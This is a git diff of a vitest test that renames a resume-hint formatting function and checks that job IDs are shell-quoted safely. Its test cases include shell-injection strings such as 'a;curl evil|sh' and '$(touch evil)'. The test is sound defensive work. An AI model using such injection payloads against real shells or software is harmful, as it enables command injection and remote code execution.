@@ -1,11 +1,12 @@
 import { execFileSync } from "node:child_process";
 import { expect, test } from "vitest";
-import { wayBackTo } from "../../src/jobs/resume-hint.ts";
+import { formatResumeHint } from "../../src/jobs/resume-hint.ts";
 
 test.each(["v_1", "a;curl evil|sh", "$(touch evil)", "it's", "`id`", "-x", "a b"])(
   "the command to resume %j is one that a shell can be given",
   (id) => {
-    const words = wayBackTo({ provider: "heygen", surface: "video", ids: { video_id: id } }, true) ?? "";
+    const words =
+      formatResumeHint({ provider: "heygen", surface: "video", ids: { video_id: id } }, true) ?? "";
     const [, rest = ""] = words.split(": showreel ");
     const argv = execFileSync("/bin/sh", ["-c", `printf '%s\\n' ${rest}`], { encoding: "utf8" })
       .trimEnd()
